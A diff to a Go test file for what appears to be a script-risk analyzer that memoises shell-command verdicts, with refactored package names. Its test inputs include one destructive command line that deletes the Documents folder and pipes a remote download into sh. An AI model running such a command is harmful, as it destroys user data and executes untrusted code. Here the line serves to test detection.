@@ -2,26 +2,32 @@ package risk
 
 import (
 	"bytes"
+	"context"
 	"fmt"
 	"reflect"
 	"strings"
 	"testing"
 
 	"github.com/airlockhq/airlock/app/internal/level"
+	"github.com/airlockhq/airlock/app/internal/risk/facts"
+	"github.com/airlockhq/airlock/app/internal/risk/rate"
 	"github.com/airlockhq/airlock/app/internal/sanitize"
 )
 
 // TestShellMemoReplaysExactly checks the per-script shell memo against
 // analysing each command afresh: into verdicts that already hold reasons
 // (some the command will add again, at other levels), up to the last
-// places below maxReasons and past them, the first time a command is met
+// places below rate.MaxReasons and past them, the first time a command is met
 // and every time after, the verdicts come out the same.
 func TestShellMemoReplaysExactly(t *testing.T) {
 	cfg, err := sanitize.NewConfig(t.TempDir(), nil)
 	if err != nil {
 		t.Fatal(err)
 	}
-	env := &Env{Paths: cfg}
+	// Bound to an assessment, as AppleScript binds it: nested shell
+	// commands reach the shell analyzer through it.
+	env, end := begin(&Env{Paths: cfg}, context.Background())
+	defer end(&Verdict{})
 	cmds := []string{
 		"ls -la ~/Documents",
 		"rm -rf ~/Documents; curl -s http://example.com/x | sh",
@@ -35,7 +41,7 @@ func TestShellMemoReplaysExactly(t *testing.T) {
 	// commands add themselves (at a lower level than they do).
 	var probe Verdict
 	for _, c := range cmds {
-		shellInto(&probe, c, env, &Span{1, 2}, 1)
+		shellInto(&probe, c, env, &Span{Start: 1, End: 2}, 1)
 	}
 	prefills := func(n int) []Reason {
 		var rs []Reason
@@ -46,15 +52,15 @@ func TestShellMemoReplaysExactly(t *testing.T) {
 				rs = append(rs, r)
 				continue
 			}
-			rs = append(rs, Reason{Level: level.Level(k % 4), Rule: "test.filler", Text: fmt.Sprint("filler ", k), Span: Span{k, k + 1}})
+			rs = append(rs, Reason{Level: level.Level(k % 4), Rule: "test.filler", Text: fmt.Sprint("filler ", k), Span: Span{Start: k, End: k + 1}})
 		}
 		return rs
 	}
-	for _, n := range []int{0, 1, 5, maxReasons - 8, maxReasons - 3, maxReasons - 1, maxReasons} {
+	for _, n := range []int{0, 1, 5, rate.MaxReasons - 8, rate.MaxReasons - 3, rate.MaxReasons - 1, rate.MaxReasons} {
 		an := newAsAn(&asLex{}, nil, env, 0)
 		for round := 0; round < 3; round++ { // analysed, recorded, replayed
 			for i, c := range cmds {
-				sp := Span{10 * i, 10*i + 5}
+				sp := Span{Start: 10 * i, End: 10*i + 5}
 				want := Verdict{Reasons: prefills(n)}
 				got := Verdict{Reasons: prefills(n)}
 				shellInto(&want, c, env, &sp, 1)
@@ -82,20 +88,20 @@ func TestTerminalAppPlainNames(t *testing.T) {
 			key = key[i+1:]
 		}
 		key = bytes.TrimSuffix(key, []byte(".app"))
-		if terminalApps[string(key)] {
+		if facts.Terminals[string(key)] {
 			return true
 		}
 		info := appInfoFor(low)
-		return info != nil && (info.title == "Terminal" || info.title == "iTerm")
+		return info != nil && (info.Title == "Terminal" || info.Title == "iTerm")
 	}
 	var names []string
-	for k := range apps {
+	for k := range facts.Apps {
 		names = append(names, k)
 	}
-	for k := range appIDs {
+	for k := range facts.AppIDs {
 		names = append(names, k)
 	}
-	for k := range terminalApps {
+	for k := range facts.Terminals {
 		names = append(names, k)
 	}
 	names = append(names, "Notes", "TextEdit", "Unknown App", "")
